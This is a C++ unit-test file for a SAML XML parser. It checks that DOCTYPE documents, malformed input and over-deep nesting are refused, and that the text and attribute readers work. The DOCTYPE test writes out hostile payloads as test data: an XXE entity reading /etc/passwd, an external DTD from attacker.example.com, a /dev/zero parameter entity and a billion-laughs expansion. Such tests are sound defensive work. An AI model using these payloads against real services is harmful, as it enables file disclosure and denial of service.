// ParseSamlXml and the readers: documents with a DOCTYPE (XXE, external DTDs, entity expansion)
// refused before any declaration is read, bounded nesting, and text read whole across comments,
// CDATA and child elements. The DOCTYPE cases also go through VerifySamlResponse.
#include "federation/saml_xml.h"

#include <gtest/gtest.h>

#include <chrono>

#include "saml_test_fixtures.h"

namespace gatehouse::federation {
namespace {

using namespace saml_testing;

void ExpectParseRefused(const std::string& xml, const std::string& reason) {
  Result<XmlDocPtr> doc = ParseSamlXml(xml);
  ASSERT_FALSE(doc.ok());
  EXPECT_EQ(doc.status().code(), ErrorCode::kInvalidIdentityToken);
  EXPECT_EQ(doc.status().message(), "Invalid SAML response: " + reason);
}

std::string Body() { return ResponseXml(); }

// (i) Every kind of DOCTYPE: external entities, external DTDs, parameter entities, expansion.
TEST(SamlXml, DoctypeIsRefused) {
  const std::string xxe =
      "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n" +
      Replace(Body(), "alice@example.com", "&x;");
  const std::string external_dtd =
      "<!DOCTYPE samlp:Response SYSTEM \"http://attacker.example.com/evil.dtd\">" + Body();
  const std::string parameter_entity =
      "<!DOCTYPE r [<!ENTITY % p SYSTEM \"file:///dev/zero\"> %p;]>" + Body();
  std::string laughs = "<!DOCTYPE r [<!ENTITY a \"lol\">";
  for (char c = 'b'; c <= 'k'; ++c) {
    std::string refs;
    for (int i = 0; i < 10; ++i) refs += std::string("&") + static_cast<char>(c - 1) + ";";
    laughs += std::string("<!ENTITY ") + c + " \"" + refs + "\">";
  }
  laughs += "]>" + Replace(Body(), "alice@example.com", "&k;");
  const std::string plain = "<!DOCTYPE samlp:Response>" + Body();
  for (const std::string& xml : {xxe, external_dtd, parameter_entity, laughs, plain}) {
    auto start = std::chrono::steady_clock::now();
    ExpectParseRefused(xml, "the document has a DOCTYPE");
    ExpectInvalid(Verify(xml), "the document has a DOCTYPE");
    EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(2));
  }
}

TEST(SamlXml, MalformedDocumentsAreRefused) {
  ExpectParseRefused("<samlp:Response", "the document is not well-formed XML");
  ExpectParseRefused(Replace(Body(), "alice@example.com", "&undeclared;"),
                     "the document is not well-formed XML");
  ExpectParseRefused("", "the document is not well-formed XML");
  ExpectParseRefused(Body() + "<second/>", "the document is not well-formed XML");
}

TEST(SamlXml, NestingIsBounded) {
  auto nested = [](int depth) {
    std::string open, close;
    for (int i = 0; i < depth; ++i) {
      open += "<e>";
      close += "</e>";
    }
    return open + close;
  };
  EXPECT_TRUE(ParseSamlXml(nested(kMaxSamlXmlDepth)).ok());
  ExpectParseRefused(nested(kMaxSamlXmlDepth + 1), "the document nests too deep");
  ExpectParseRefused(nested(100000), "the document is not well-formed XML");
  ResponseSpec r;
  r.extensions = nested(40);
  ExpectInvalid(Verify(AssertionSigned(r)), "the document nests too deep");
}

TEST(SamlXml, TextContentJoinsEveryTextNode) {
  Result<XmlDocPtr> doc =
      ParseSamlXml("<a>x<!--c-->y<![CDATA[z]]><b>w<c>u</c></b><?pi data?>v&amp;</a>");
  ASSERT_TRUE(doc.ok()) << doc.status().ToString();
  EXPECT_EQ(TextContent(xmlDocGetRootElement(doc->get())), "xyzwuv&");
  Result<XmlDocPtr> empty = ParseSamlXml("<a/>");
  ASSERT_TRUE(empty.ok());
  EXPECT_EQ(TextContent(xmlDocGetRootElement(empty->get())), "");
}

TEST(SamlXml, ForEachElementVisitsInDocumentOrderWithDepth) {
  Result<XmlDocPtr> doc = ParseSamlXml("<a><b><c/>text<d/></b><!--x--><e><f><g/></f></e></a>");
  ASSERT_TRUE(doc.ok());
  std::string seen;
  ForEachElement(xmlDocGetRootElement(doc->get()), [&](xmlNode* element, int depth) {
    seen += reinterpret_cast<const char*>(element->name) + std::to_string(depth);
  });
  EXPECT_EQ(seen, "a1b2c3d3e2f3g4");
}

TEST(SamlXml, AttributeValueIsOnlyTheUnqualifiedAttribute) {
  Result<XmlDocPtr> doc = ParseSamlXml("<a xmlns:x=\"urn:x\" x:ID=\"q\" Name=\"\"/>");
  ASSERT_TRUE(doc.ok());
  const xmlNode* root = xmlDocGetRootElement(doc->get());
  EXPECT_EQ(AttributeValue(root, "ID"), std::nullopt);
  EXPECT_EQ(AttributeValue(root, "Name"), "");
}

}  // namespace
}  // namespace gatehouse::federation
